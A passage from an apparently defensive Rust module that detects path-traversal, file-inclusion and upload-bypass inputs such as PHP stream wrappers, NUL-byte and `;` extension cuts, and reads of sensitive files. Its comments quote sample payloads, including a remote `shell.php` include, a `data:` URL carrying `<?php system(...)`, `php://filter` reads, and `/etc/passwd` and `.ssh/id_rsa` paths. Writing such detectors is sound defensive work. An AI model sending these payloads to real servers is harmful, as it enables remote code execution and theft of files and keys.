    };
    if starts(b"%2f%2f") || starts(b"%5c%5c") || starts(b"%252f%252f") {
        return true;
    }
    if !starts(b"//") || b.iter().any(|c| c.is_ascii_whitespace()) {
        return false;
    }
    // An FTP URL to a server script (`ftp://anonymous@203.0.113.5/pub/shell.php`): FTP
    // hands the script's source over as it is stored, not the page it would render, so an
    // include runs the attacker's code; no site links its pages over FTP.
    let ftp = scheme.len() >= 3 && scheme[..3].eq_ignore_ascii_case(b"ftp");
    if ftp && starts(b"//") && server_script_file(rest) {
        return true;
    }
    // `??` cuts as `?` does; a query that is only an extension (`shell.txt?.php`) is written
    // to pass the application's suffix test.
    let mut rest = query_extension(rest).unwrap_or(rest);
    while rest.ends_with(b"??") {
        rest = &rest[..rest.len() - 1];
    }
    // `?`, `#` and `%23` all end the path the server is asked for: the query or fragment
    // swallows the suffix the application appends, and a fragment is never sent at all.
    let (body, text_only) = if let Some(body) = rest
        .strip_suffix(b"?")
        .or_else(|| rest.strip_suffix(b"#"))
        .or_else(|| strip_suffix_ignore_case(rest, b"%23"))
        .or_else(|| strip_suffix_ignore_case(rest, b"%3f"))
    {
        (body, true)
    } else if let Some(body) = rest
        .strip_suffix(b"%00")
        .or_else(|| rest.strip_suffix(b"%2500"))
        .or_else(|| rest.strip_suffix(b"\0"))
    {
        (body, false)
    } else {
        return false;
    };
    let Some(last) = url_file_name(body) else {
        return false;
    };
    let Some(dot) = memchr::memrchr(b'.', last) else {
        return false;
    };
    let ext = &last[dot + 1..];
    dot > 0
        && !ext.is_empty()
        && ext.len() <= 5
        && ext.iter().all(u8::is_ascii_alphanumeric)
        && (!text_only
            || REMOTE_CODE_TEXT
                .iter()
                .any(|e| ext.eq_ignore_ascii_case(e.as_bytes())))
}

/// The file a URL names (the part after its scheme's colon, `//host/dir/file.ext`): the last
/// segment of its path, after the host; `None` without a path or with a query or fragment.
fn url_file_name(rest: &[u8]) -> Option<&[u8]> {
    let path = rest.get(2..)?;
    let path = &path[memchr::memchr(b'/', path)?..];
    if path.iter().any(|&c| matches!(c, b'?' | b'#' | b'&' | b'=')) {
        return None;
    }
    Some(&path[memchr::memrchr(b'/', path).map_or(0, |i| i + 1)..])
}

/// Whether the URL after its scheme's colon (`//host/dir/file.ext`) ends in a file with one
/// of [`SERVER_SCRIPTS`]' extensions, with no query or fragment.
fn server_script_file(rest: &[u8]) -> bool {
    let Some(last) = url_file_name(rest) else {
        return false;
    };
    memchr::memrchr(b'.', last).is_some_and(|dot| {
        dot > 0
            && SERVER_SCRIPTS
                .iter()
                .any(|e| last[dot + 1..].eq_ignore_ascii_case(e.as_bytes()))
    })
}

/// The URL without a query that is only a file extension (`…/shell.txt?.php` gives
/// `…/shell.txt?`), or `None`.
fn query_extension(rest: &[u8]) -> Option<&[u8]> {
    let q = memchr::memrchr(b'?', rest)?;
    let query = &rest[q + 1..];
    let ext = query.strip_prefix(b".")?;
    (!ext.is_empty() && ext.len() <= 5 && ext.iter().all(u8::is_ascii_alphanumeric))
        .then(|| &rest[..=q])
}

/// `b` without `suffix` at its end, ignoring ASCII case (`%3F` as `%3f`).
fn strip_suffix_ignore_case<'a>(b: &'a [u8], suffix: &[u8]) -> Option<&'a [u8]> {
    let cut = b.len().checked_sub(suffix.len())?;
    b[cut..].eq_ignore_ascii_case(suffix).then(|| &b[..cut])
}

/// The value judged as [`detect`] judges it before its escape layers (for the tests that
/// compare that with the canonical form).
#[cfg(test)]
fn judge(value: &str, ctx: Context) -> Option<&'static str> {
    judge_classified(value, ctx, classes::of(value.as_bytes()), false)
}

/// The value an escape layer decoded (character references, CSS or C escapes), judged as
/// the value would be, except that it is never taken for text a person typed: its dots and
/// slashes were spelled for a decoder.
fn judge_decoded(value: &str, ctx: Context) -> Option<&'static str> {
    judge_classified(value, ctx, classes::of(value.as_bytes()), true)
}

/// The value judged, given its [`classes::of`] and whether it was decoded from escapes.
fn judge_classified(value: &str, ctx: Context, classes: u8, decoded: bool) -> Option<&'static str> {
    // Cheap exit: with none of these there is no dot, separator, scheme or encoding to judge,
    // and the only file a bare word names is a private key's (`id_rsa`).
    if classes & RELEVANT == 0 {
        return sensitive::bare_private_key(value).then_some("sensitive-file");
    }
    // Fast path for plain ASCII text with no separator and nothing to decode (most prose):
    // only a scheme, a lone `..` segment or a sensitive file name can matter, and all three
    // can be judged on the raw value without building the canonical form.
    // (`0X2E`, a fuzzer's upper-cased payload, is lower-cased before the rewrite too)
    let plain = classes & NOT_PLAIN == 0 && !(classes & ZERO != 0 && holds_hex_prefix(value));
    if plain {
        let trimmed =
            value.trim_start_matches(|c: char| c.is_whitespace() || c == '"' || c == '\'');
        let colon = classes & COLON != 0;
        if colon && (opens_with_scheme(trimmed) || embedded_scheme(value)) {
            return Some("scheme");
        }
        // (plain ASCII with nothing to decode: its dots are typed, unless an escape layer
        // decoded them)
        if lone_climb(value.trim().as_bytes(), ctx, !decoded) {
            return Some("climb");
        }
        if colon && data_stream(value) {
            return Some("data-stream");
        }
        let segment = ctx == Context::PathSegment;
        if script_parameter_name(value) {
            return Some("script-extension");
        }
        return (sensitive::names_sensitive_file(value)
            || sensitive::secret_file(value, false, segment)
            || sensitive::app_secret_file(value)
            || (classes & AMP_TILDE != 0 && sensitive::short_name_target(value)))
        .then_some("sensitive-file");
    }
    if classes & REWRITTEN != 0 && nul_cut_script_name(value) {
        return Some("script-extension");
    }
    // Nothing to decode or rewrite (a path, a URL, multi-line text, HTML, prose in any
    // script): the canonical form is the value with ASCII letters lower-cased, and every
    // test below ignores ASCII case, so it runs on the value itself without building that
    // copy.
    if classes & REWRITTEN != 0 && unc_path(value) {
        return Some("unc-path");
    }
    let rewritten =
        classes & REWRITTEN != 0 || (classes & ZERO != 0 && spells_hex_separator(value));
    let kept = classes & CHANGED_LEAD == 0 || non_ascii_kept(value);
    if !rewritten && !decoded && kept {
        return judge_canonical_as(value, ctx, true, true, classes);
    }
    let canon = canonical(value);
    // `..\Win1!`, `..\lib`: a backslash is the separator a person types on Windows (and a
    // random password's symbol), not an escape spelled for a decoder; with no `%`, control,
    // spelled separator or look-alike, the value's dots and separators are those typed, and
    // its steps up are judged as their forward-slash spelling is.
    let typed = !decoded
        && kept
        && (classes & ZERO == 0 || !spells_hex_separator(value))
        && !value
            .bytes()
            .any(|c| c == b'%' || (c.is_ascii_control() && c != b'\n' && c != b'\t'));
    judge_canonical_as(&canon, ctx, false, typed, classes::of(canon.as_bytes()))
}

/// Whether [`canonical`] keeps every character outside ASCII of `value` (which has no `%`):
/// none is a look-alike dot or slash ([`lenient_decode`] leaves the value as it is), a
/// character whose lower case is ASCII ([`LOWER_TO_ASCII`]), or one mapped to `/` (a C1
/// control, private use, U+FFFD). Those are led by the bytes 0xC2 (C1 controls, the yen sign), 0xC4
/// (`İ`), 0xE2 (KELVIN SIGN, look-alikes), 0xEE and 0xEF (private use, U+FFFD, look-alikes)
/// ([`CHANGED_LEAD`]); other characters are skipped unread, and a value without those leads
/// is kept as it is without calling this.
fn non_ascii_kept(value: &str) -> bool {
    // A look-alike is what [`lenient_decode`] folds in a value without `%` (all of them are
    // led by 0xC2, 0xE2 or 0xEF, which only ever lead a character): asked here of each
    // character, so the value is walked once.
    let b = value.as_bytes();
    let changed = |i: usize| {
        value
            .get(i..)
            .and_then(|rest| rest.chars().next())
            .is_some_and(|c| {
                LOWER_TO_ASCII.contains(&c)
                    || c.is_control()
                    || matches!(c, '\u{fffd}' | '\u{e000}'..='\u{f8ff}')
                    || fold_lookalike(c) != c
            })
    };
    // The five leads found by two vectorised searches instead of a look at every byte.
    let rewritten = memchr::memchr3_iter(0xc2, 0xe2, 0xef, b).any(changed)
        || memchr::memchr2_iter(0xc4, 0xee, b).any(changed);
    !rewritten
}

/// Whether `trimmed` starts with one of [`SCHEMES`] and goes on as a URL. `file:` alone
/// names nothing to read, and `File::Find` is a Perl (or C++, Ruby) package path: a second
/// colon ends no URI scheme any stream wrapper or URL parser accepts.
fn opens_with_scheme(trimmed: &str) -> bool {
    // A text a scheme opens starts with the scheme's first letter and has its first colon
    // where the scheme has its own (the name before it holds none): asked first, with a
    // look at the first few bytes, so most values compare no scheme at all.
    let b = trimmed.as_bytes();
    let Some(&first) = b.first() else {
        return false;
    };
    if SCHEME_FIRST_LETTERS & (1u32 << (first | 0x20).wrapping_sub(b'a').min(31)) == 0 {
        return false;
    }
    let Some(colon) = b
        .iter()
        .take(LONGEST_SCHEME_NAME + 1)
        .position(|&c| c == b':')
    else {
        return false;
    };
    SCHEMES.iter().any(|s| {
        s.bytes().position(|c| c == b':') == Some(colon)
            && trimmed
                .get(..s.len())
                .is_some_and(|p| p.eq_ignore_ascii_case(s))
            && (!s.ends_with(':') || bare_scheme_target(s, &trimmed.as_bytes()[s.len()..]))
            && (!s.ends_with("://") || names_a_stream(s, &trimmed.as_bytes()[s.len()..]))
            && !named_in_prose(s, &trimmed[s.len()..])
            && (!DATA_URL_SCHEMES.contains(s) || data_url_runs_code(&trimmed.as_bytes()[s.len()..]))
    }) || php_filter_any_slashes(b)
}

/// Whether `b` opens PHP's filter wrapper with other than the two slashes of its grammar
/// (`php:/filter/…`, `php:filter/…`, `php:///filter/…`) and names the stream it filters
/// (`resource=`). PHP's own parser opens only `php://`, but scanners send every slash count
/// for a front end or a `//`-merging normaliser that restores it, and nothing but the
/// wrapper is written `php:` + `filter/` + `resource=`: a page or a question names the
/// wrapper with its two slashes, or without `resource=`.
fn php_filter_any_slashes(b: &[u8]) -> bool {
    let Some(rest) = b
        .get(..4)
        .filter(|p| p.eq_ignore_ascii_case(b"php:"))
        .map(|_| &b[4..])
    else {
        return false;
    };
    let slashes = rest.iter().take_while(|&&c| c == b'/').count();
    let r = &rest[slashes..];
    slashes != 2
        && r.get(..7)
            .is_some_and(|p| p.eq_ignore_ascii_case(b"filter/"))
        && r.windows(9).any(|w| w.eq_ignore_ascii_case(b"resource="))
}

/// The [`SCHEMES`] spelled as an RFC 2397 `data:` URL (`data:text/plain,…`, `data:;…`),
/// which browsers, mail and documents use for inline text and images: such a URL is an
/// inclusion only for what it carries ([`data_url_runs_code`]). PHP's own `data://`
/// spelling is written for its stream wrapper alone and counts as it is.
const DATA_URL_SCHEMES: &[&str] = &["data:text/plain", "data:;"];

/// Longest payload [`data_url_runs_code`] reads (base64 characters, or text).
const MAX_DATA_URL: usize = 4096;

/// Whether the rest of a `data:text/plain` or `data:;` URL (after that prefix: parameters,
/// `,`, the data) carries code an include runs: a PHP or ASP/JSP open tag or a `<script`
/// element (`data:text/plain,<?php system($_GET[c]);?>`), in the text or in what its
/// base64 decodes to (`;base64,PD9waHAg…`). Plain text and pictures
/// (`data:text/plain;charset=utf-8,Hello%2C%20World`) are echoed by `include()`, no more.
/// A base64 payload with no upper-case letter has lost its case to the canonical form:
/// its bytes are unknown, and it is judged as code, as every such URL was before.
fn data_url_runs_code(rest: &[u8]) -> bool {
    let Some(comma) = memchr::memchr(b',', rest) else {
        // No data yet (`data:text/plain` alone, `data:;base64`): nothing to include.
        return false;
    };
    let data = &rest[comma + 1..rest.len().min(comma + 1 + MAX_DATA_URL)];
    let base64 = rest[..comma]
        .windows(6)
        .any(|w| w.eq_ignore_ascii_case(b"base64"));
    if !base64 {
        return holds_code_tag(data);
    }
    let core: &[u8] = &data[..data
        .iter()
        .position(|&c| !(c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'-' | b'_')))
        .unwrap_or(data.len())];
    if core.len() >= 4 && !core.iter().any(u8::is_ascii_uppercase) {
        return true;
    }
    let core = &core[..core.len() - core.len() % 4];
    decode_lenient(core).is_some_and(|out| holds_code_tag(&out))
}

/// Whether `b` opens code a server or a page runs: `<?` (PHP), `<%` (ASP, JSP) or
/// `<script`, in any case.
fn holds_code_tag(b: &[u8]) -> bool {
    memchr::memchr_iter(b'<', b).any(|i| {
        matches!(b.get(i + 1), Some(b'?' | b'%'))
            || b.get(i + 1..i + 7)
                .is_some_and(|w| w.eq_ignore_ascii_case(b"script"))
    })
}

/// Whether the text after a `://` wrapper (`rest`) names a stream: the wrapper opens the
/// text glued to it, so with nothing there (`zip://` alone, `zip:// links fail`) it opens
/// nothing and the value is the wrapper's name in a help text or a question. `expect://`
/// hands its text to a shell, which skips the blanks before a command.
fn names_a_stream(scheme: &str, rest: &[u8]) -> bool {
    scheme.starts_with("expect:") || rest.first().is_some_and(|c| !c.is_ascii_whitespace())
}

/// Whether the text after a wrapper (`rest`) names a stream and goes on as a sentence
/// (`php://input returns empty`, `phar://archive is deprecated`): a wrapper opens only the
/// stream its whole text names, and none is named with blanks and words, so this is a
/// question or a note about the wrapper. Not for the wrappers whose text is data or a
/// command line (`data:`, `expect://`), where the words are what is read or run.
fn named_in_prose(scheme: &str, rest: &str) -> bool {
    memchr::memchr(b' ', rest.as_bytes()).is_some()
        && !scheme.starts_with("data:")
        && !scheme.starts_with("expect:")
        && sensitive::sentence_follows(rest)
}

/// Most colons examined for a scheme inside the value.
const MAX_EMBEDDED_COLONS: usize = 16;

/// Whether one of [`SCHEMES`] starts right after a delimiter of a query string or a
/// literal (`index.php?page=php://input`, `tpl=compress.zlib://x`, `{"src":"phar://…"}`,
/// `(zip://…`): the value is a URL or a literal the application forwards or unwraps, and
/// the wrapper reaches `include()` or `file_get_contents()` as it would at the value's
/// start. A scheme after a letter, digit or word mark belongs to a longer name
/// (`myphp://`), and one after a blank is named in prose.
fn embedded_scheme(value: &str) -> bool {
    // The searcher for colons set up once, not at each colon (see `sensitive::Dots::of`):
    // markup and prose hold many (`style="color: red"`, `Note:`).
    #[cfg(target_arch = "x86_64")]
    {
        use memchr::arch::x86_64::avx2::memchr::One;
        static ONE: std::sync::OnceLock<Option<One>> = std::sync::OnceLock::new();
        if let Some(one) = ONE.get_or_init(|| One::new(b':')) {
            return scheme_after_colon(value, one.iter(value.as_bytes()));
        }
    }
    scheme_after_colon(value, memchr::memchr_iter(b':', value.as_bytes()))
}

/// [`embedded_scheme`] given the offsets of the colons in `value`, in order.
fn scheme_after_colon(value: &str, colons: impl Iterator<Item = usize>) -> bool {
    let b = value.as_bytes();
    colons.take(MAX_EMBEDDED_COLONS).any(|colon| {
        // The scheme's name: the letters, digits and `.`, `*` before the colon, at
        // most the longest name.
        let start = b[..colon]
            .iter()
            .rev()
            .take(LONGEST_SCHEME_NAME + 1)
            .take_while(|&&c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'*'))
            .count();
        let at = colon - start;
        // A `file:` URL inside text is how documentation names a local file; only at the
        // value's start is it the value. (Asked after the delimiter, which most colons in
        // text lack: `Note: …`, `color: red`.)
        let file_url = || {
            b[at..colon].eq_ignore_ascii_case(b"file")
                || b[at..colon].eq_ignore_ascii_case(b"netdoc")
        };
        at > 0
            && start > 0
            && matches!(
                b[at - 1],
                b'=' | b'?'
                    | b'&'
                    | b'('
                    | b'['
                    | b'{'
                    | b','
                    | b'"'
                    | b'\''
                    | b'`'
                    | b';'
                    | b'|'
                    | b'<'
                    | b'>'
                    | b'#'
                    | b'@'
                    | b'\n'
            )
            && !file_url()
            && value.get(at..).is_some_and(opens_with_scheme)
    })
}

/// Whether the text after a bare scheme names something to read: a path for `file:` and
/// `netdoc:` ([`names_a_path`]); for `classpath:` any resource name
/// (`classpath:application.yml`), as its first word is all Spring reads.
fn bare_scheme_target(scheme: &str, rest: &[u8]) -> bool {
    if scheme.starts_with("classpath") {
        return rest.first().is_some_and(|&c| {
            c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'*' | b'%' | b'\\')
        });
    }
    names_a_path(rest)
}

/// Whether the text after a bare scheme (`file:`, `netdoc:`) is a path a URL parser reads:
/// rooted (`/`, `\`), relative with a separator in its first word (`etc/passwd`, `..`), a
/// drive (`c:`, `c|`), the home `~` or an escape (`%2f`). "File: report.pdf", "file:line 42"
/// and `File::Find` are a label, a source position and a package path.
fn names_a_path(rest: &[u8]) -> bool {
    let word = &rest[..rest
        .iter()
        .position(|c| c.is_ascii_whitespace())
        .unwrap_or(rest.len())];
    match word.first() {
        None | Some(b':') => false,
        // `file://` alone names no host and no path: a help text or a setting's example.
        _ if word.iter().all(|&c| c == b'/' || c == b'\\') => false,
        Some(b'/' | b'\\' | b'.' | b'~' | b'%') => true,
        Some(c) if c.is_ascii_alphabetic() && matches!(word.get(1), Some(b':' | b'|')) => true,
        Some(_) => word.iter().any(|&c| c == b'/' || c == b'\\'),
    }
}

/// The first letters of [`SCHEMES`], as bits `1 << (letter - 'a')` (bit 31, which no
/// letter has, stands for every other byte).
const SCHEME_FIRST_LETTERS: u32 = {
    let mut bits = 0u32;
    let mut i = 0;
    while i < SCHEMES.len() {
        let c = SCHEMES[i].as_bytes()[0];
        assert!(c.is_ascii_lowercase(), "schemes are spelled in lower case");
        bits |= 1 << (c - b'a');
        i += 1;
    }
    bits
};

/// The longest name before the first colon of any of [`SCHEMES`].
const LONGEST_SCHEME_NAME: usize = {
    let mut longest = 0;
    let mut i = 0;
    while i < SCHEMES.len() {
        let s = SCHEMES[i].as_bytes();
        let mut n = 0;
        while s[n] != b':' {
            n += 1;
        }
        if n > longest {
            longest = n;
        }
        i += 1;
    }
    longest
};

/// Whether `value` holds `0x` or `0X`, which [`canonical`] may rewrite (after lower-casing).
///
/// Found from the rare `x` with one vectorised search (as [`spells_hex_separator`] is), not
/// by two substring searches that each set up a searcher.
fn holds_hex_prefix(value: &str) -> bool {
    let b = value.as_bytes();
    memchr::memchr2_iter(b'x', b'X', b).any(|x| x > 0 && b[x - 1] == b'0')
}

/// Whether `value` spells `0x2e`, `0x2f` or `0x5c` in any ASCII case: the only `0x`
/// notation [`canonical`] rewrites (to `.` or `/`). Another `0x` (a hex literal in SQL or
/// code) is copied as it is, so such a value needs no canonical copy. Found from the rare
/// `x` rather than the common `0`, with one vectorised search.
fn spells_hex_separator(value: &str) -> bool {
    let b = value.as_bytes();
    memchr::memchr2_iter(b'x', b'X', b).any(|x| {
        x > 0
            && b[x - 1] == b'0'
            && matches!(
                (b.get(x + 1), b.get(x + 2).map(|c| c | 0x20)),
                (Some(b'2'), Some(b'e' | b'f')) | (Some(b'5'), Some(b'c'))
            )
    })
}

/// [`judge_canonical_as`] on a canonical form taken as made for escapes (neither literal
/// nor typed): the tests' reference.
#[cfg(test)]
fn judge_canonical(canon: &str, ctx: Context) -> Option<&'static str> {
    judge_canonical_as(canon, ctx, false, false, classes::of(canon.as_bytes()))
}

/// The structural tests on the canonical form of the value, or on a value that differs from
/// it only in ASCII case (every test here ignores ASCII case), told whether the value was
/// written without escapes (`literal`: no
/// `%`, `\` or spelled separator), so that its dot segments are the ones a URL parser sees,
/// whether its dots and separators are those a person typed (`typed`: `literal`, or `\` its
/// only rewritten byte), and the [`BYTE_CLASS`] bits of `canon` (of which its `:` and `/`
/// are read).
fn judge_canonical_as(
    canon: &str,
    ctx: Context,
    literal: bool,
    typed: bool,
    classes: u8,
) -> Option<&'static str> {
    // A scheme and an NTFS stream are both named with a colon: most text has none.
    let colon = classes & COLON != 0;
    if colon {
        let trimmed =
            canon.trim_start_matches(|c: char| c.is_whitespace() || c == '"' || c == '\'');
        if opens_with_scheme(trimmed) || embedded_scheme(canon) {
            return Some("scheme");
        }
    }
    // One pass over the dots serves the climb and the mangled-climb tests.
    let dots = sensitive::Dots::of(canon.as_bytes());
    // A path parameter (`/.;/admin`) and a script name cut by one (`shell.asp;.jpg`) are
    // both written with a `;`, which most text lacks: one search answers both tests for it.
    let semicolon = memchr::memchr(b';', canon.as_bytes()).is_some();
    let walked = if literal { url_query(canon) } else { canon };
    if climbs(walked, ctx, dots.adjacent, typed)
        || (semicolon && parameter_dot_segment(canon))
        || (dots.adjacent && classes & SLASH != 0 && relative_alias_step(canon.as_bytes()))
    {
        return Some("climb");
    }
    if classes & SLASH != 0 && slash_unc_library(canon) {
        return Some("unc-path");
    }
    if sensitive::names_sensitive_file(canon)
        || sensitive::secret_file(canon, classes & SLASH != 0, ctx == Context::PathSegment)
        || sensitive::app_secret_file(canon)
    {
        return Some("sensitive-file");
    }
    if classes & SLASH != 0
        && (sensitive::document_root_file(canon) || sensitive::system_tree_file(canon))
    {
        return Some("sensitive-file");
    }
    if classes & AMP_TILDE != 0 && sensitive::short_name_target(canon) {
        return Some("sensitive-file");
    }
    if semicolon && script_parameter_name(canon) {
        return Some("script-extension");
    }
    if colon && data_stream(canon) {
        return Some("data-stream");
    }
    // [`windows_names`] renames directories, each ended by a `/` ([`SLASH`]).
    if classes & SLASH != 0
        && windows_names(canon).is_some_and(|n| sensitive::names_sensitive_file(&n))
    {
        return Some("sensitive-file");
    }
    if sensitive::dotted_junk_path_with(canon, dots) {
        return Some("obfuscated-climb");
    }
    None
}

/// Longest `file:` URL [`own_document_file_url`] reads, and most folders it walks.
const MAX_FILE_URL: usize = 512;
const MAX_FILE_URL_DEPTH: usize = 10;

/// The folders of a user's home that a desktop keeps documents in.
const DOCUMENT_FOLDERS: &[&str] = &[
    "desktop",
    "documents",
    "downloads",
    "pictures",
    "music",
    "videos",
    "movies",
    "onedrive",
    "dropbox",
    "my documents",
];

/// Extensions of the documents a person drags from those folders into a form.
const DOCUMENT_EXTENSIONS: &[&str] = &[
    "pdf", "png", "jpg", "jpeg", "gif", "webp", "heic", "bmp", "tif", "tiff", "svg", "doc", "docx",
    "xls", "xlsx", "ppt", "pptx", "odt", "ods", "odp", "rtf", "txt", "md", "csv", "html", "htm",
    "mp3", "mp4", "mov", "wav", "m4a", "zip", "epub", "pages", "numbers", "key",
];

/// Whether `value` is the `file:` URL a browser shows for a document in a user's own
/// folders (`file:///Users/john/Desktop/receipt.png`, `file:///C:/Users/Jane/cv.pdf`):
/// dragged into a form or pasted as a link, it names the sender's own file on the sender's
/// machine, and no server reads it as a path it should not. Only a URL with no host (or
/// `localhost`: a host is an SMB share the server would connect to) whose path goes from a
/// home (`/Users/<name>/`, `/home/<name>/`, `C:/Users/<name>/`) into a document folder (or
/// straight to a document in the home), through plainly named folders (no dot segment, no
/// hidden folder such as `.ssh`, no escape but a space, no backslash or control) to a file
/// with a document's extension. `file:///etc/passwd`, `file:///C:/Windows/win.ini`,
/// `file:///home/u/.ssh/id_rsa` and `file:///Users/x/../../etc/passwd` are none of these.
fn own_document_file_url(value: &str) -> bool {
    let b = value.trim().as_bytes();
    if b.len() > MAX_FILE_URL || b.len() < 8 || !b[..5].eq_ignore_ascii_case(b"file:") {
        return false;
    }
    let rest = &b[5..];
    let path = if rest.starts_with(b"///") {
        &rest[3..]
    } else if rest.len() > 12 && rest[..12].eq_ignore_ascii_case(b"//localhost/") {
        &rest[12..]
    } else {
        return false;
    };
    // A drive (`C:/`, `C|/`) before the Windows profile folder.
    let (path, windows) = match path {
        [d, b':' | b'|', b'/', tail @ ..] if d.is_ascii_alphabetic() => (tail, true),
        _ => (path, false),
    };
    let mut segments = path.split(|&c| c == b'/');
    let home = segments.next().unwrap_or_default();
    let home_ok =
        home.eq_ignore_ascii_case(b"users") || (!windows && home.eq_ignore_ascii_case(b"home"));
    if !home_ok {
        return false;
    }
    let plain = |seg: &[u8]| {
        !seg.is_empty()
            && seg[0] != b'.'
            && seg.len() <= 128
            && seg.iter().enumerate().all(|(i, &c)| {
                c.is_ascii_alphanumeric()
                    || matches!(
                        c,
                        b' ' | b'-' | b'_' | b'.' | b'(' | b')' | b'@' | b'+' | b','
                    )
                    || c >= 0x80
                    || (c == b'%' && seg.get(i + 1..i + 3) == Some(b"20"))
            })
    };
    let parts: Vec<&[u8]> = segments.take(MAX_FILE_URL_DEPTH + 1).collect();
    if parts.len() < 2 || parts.len() > MAX_FILE_URL_DEPTH || !parts.iter().all(|s| plain(s)) {
        return false;
    }
    let (file, folders) = parts.split_last().unwrap_or((&parts[0], &[]));
    // `<name>/` then a document folder, or a document straight in the home.
    let folder_ok = match folders {
        [_user] => true,
        [_user, first, ..] => {
            let first = std::str::from_utf8(first).unwrap_or("").replace("%20", " ");
            DOCUMENT_FOLDERS
                .iter()
                .any(|f| first.eq_ignore_ascii_case(f))
        }
        _ => false,
    };
    folder_ok
        && sensitive::has_extension(file, DOCUMENT_EXTENSIONS)
        && !sensitive::names_sensitive_file(&value.to_ascii_lowercase())
}

/// Extensions IIS, PHP and servlet handlers run as code.
const SCRIPT_EXTENSIONS: &[&str] = &[
    "asp", "aspx", "asa", "cer", "cdx", "ashx", "asmx", "php", "php3", "php4", "php5", "php7",
    "phtml", "phar", "jsp", "jspx", "cfm", "cgi", "pl",
];

/// Whether the value is a file name (or a path ending in one) whose name carries a script
/// extension and then a `;` parameter that ends in another extension (`shell.asp;.jpg`,
/// `x.php;1.png`): IIS 6 maps the file by the extension before the `;` and runs it as a
/// script, while an upload filter that reads the last extension sees an image. A `;`
/// without a script extension before it (`report;final.pdf`, `a;b.png`) or with a
/// parameter after it (`index.jsp;jsessionid=0A1B`, `style.css;charset=utf-8`) is a name
/// or a URL's path parameter.
fn script_parameter_name(value: &str) -> bool {
    // The name is cut by a `;` in the value: without one (most values), no trimming.
    if memchr::memchr(b';', value.as_bytes()).is_none() {
        return false;
    }
    let t = value.trim_matches(|c: char| c.is_whitespace() || c == '"' || c == '\'');
    let b = t.as_bytes();
    if b.len() > 1024 {
        return false;
    }
    let Some(semi) = memchr::memchr(b';', b) else {
        return false;
    };
    let name = &b[memchr::memrchr2(b'/', b'\\', &b[..semi]).map_or(0, |i| i + 1)..semi];
    let after = &b[semi + 1..];
    sensitive::has_extension(name, SCRIPT_EXTENSIONS)
        && after
            .iter()
            .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-'))
        && memchr::memrchr(b'.', after).is_some_and(|dot| {
            let ext = &after[dot + 1..];
            (1..=5).contains(&ext.len()) && ext.iter().all(u8::is_ascii_alphanumeric)
        })
}

/// Longest value [`nul_cut_script_name`] reads.
const MAX_NUL_NAME: usize = 1024;

/// Whether the value is a file name (or a path ending in one) whose name carries a script
/// extension and then a NUL (raw, `%00` or `%2500`) followed by another extension
/// (`shell.php%00.png`, `x.asp%00.jpg`): an upload or include filter checks the last
/// extension and sees an image, while the C file API under PHP, Java or ASP stops at the
/// NUL and writes or runs the script. A NUL after a name with no script extension
/// (`report%00.pdf`) or inside a token that is no file name (`ab%00cd%00`) cuts nothing a
/// server runs.
fn nul_cut_script_name(value: &str) -> bool {
    let t = value.trim_matches(|c: char| c.is_whitespace() || c == '"' || c == '\'');
    let b = t.as_bytes();
    if b.len() > MAX_NUL_NAME {
        return false;
    }
    // The first NUL, and the text after its spelling.
    let raw = memchr::memchr(0, b).map(|i| (i, i + 1));
    // (prebuilt searchers: `memmem::find` builds one per call, which cost more than the
    // search on the short values that get here)
    static ESCAPED_NUL: std::sync::LazyLock<[memchr::memmem::Finder<'static>; 2]> =
        std::sync::LazyLock::new(|| {
            [
                memchr::memmem::Finder::new(b"%00"),
                memchr::memmem::Finder::new(b"%2500"),
            ]
        });
    let [pct, pct25] = &*ESCAPED_NUL;
    let pct = pct.find(b).map(|i| (i, i + 3));
    let pct25 = pct25.find(b).map(|i| (i, i + 5));
    let Some((nul, after)) = [raw, pct, pct25].into_iter().flatten().min() else {
        return false;
    };
    let start = b[..nul]
        .iter()
        .rposition(|&c| matches!(c, b'/' | b'\\' | b'=' | b'&' | b'?'))
        .map_or(0, |i| i + 1);
    let name = &b[start..nul];
    let after = &b[after..];
    name.iter()
        .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-'))
        && sensitive::has_extension(name, SCRIPT_EXTENSIONS)
        && after
            .iter()
            .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-'))
        && memchr::memrchr(b'.', after).is_some_and(|dot| {
            let ext = &after[dot + 1..];
            (1..=5).contains(&ext.len()) && ext.iter().all(u8::is_ascii_alphanumeric)
        })
}

/// Longest value [`windows_names`] rewrites.
const MAX_WINDOWS_NAMES: usize = 4096;

/// The path `canon` with each directory's name as Windows opens it, when that differs:
/// Win32 path handling drops the trailing dots and spaces of every component and NTFS reads
/// `name::$DATA` as the file or directory `name`, so `/WEB-INF./web.xml`,
/// `/WEB-INF%2e/web.xml` and `WEB-INF::$DATA/web.xml` open `WEB-INF/web.xml` on IIS or on
/// Tomcat under Windows, past a servlet container's check of the protected name. The last
/// component is judged as written by the sensitive-name tests themselves. Dot segments
/// (`.`, `..`, `...`) and names that are only dots and blanks are left alone: they are the
/// walk's, not a name.
fn windows_names(canon: &str) -> Option<String> {
    let b = canon.as_bytes();
    if b.len() > MAX_WINDOWS_NAMES {
        return None;
    }
    let stream =
        |seg: &[u8]| seg.len() >= 7 && seg[seg.len() - 7..].eq_ignore_ascii_case(b"::$data");
    let dressed = |seg: &[u8]| {
        !seg.iter().all(|&c| matches!(c, b'.' | b' '))
            && (matches!(seg.last(), Some(b'.' | b' ')) || stream(seg))
    };
    // Most paths have no directory ending in a dot, a blank or a stream: no copy for them.
    if !may_dress_directory(b) {
        return None;
    }
    let mut segments = b.split(|&c| c == b'/').take(MAX_SEGMENTS).peekable();
    let mut out = Vec::with_capacity(b.len());
    let mut changed = false;
    let mut first = true;
    while let Some(seg) = segments.next() {
        let directory = segments.peek().is_some();
        // Text before a value's first `/` that ends in a blank is a sentence's word before a
        // path (`the /bin/bash shell`), not a directory: its blank is kept.
        let sentence = first && seg.last() == Some(&b' ');
        first = false;
        if directory && dressed(seg) && !sentence {
            let mut name = seg;
            if stream(name) {
                name = &name[..name.len() - 7];
            }
            let end = name
                .iter()
                .rposition(|&c| !matches!(c, b'.' | b' '))
                .map_or(0, |e| e + 1);
            // A name, not the end of a sentence before a path (`the /bin/bash shell`,
            // `files (e.g. wtmp, /etc/passwd)`): only then is the trimmed text one directory.
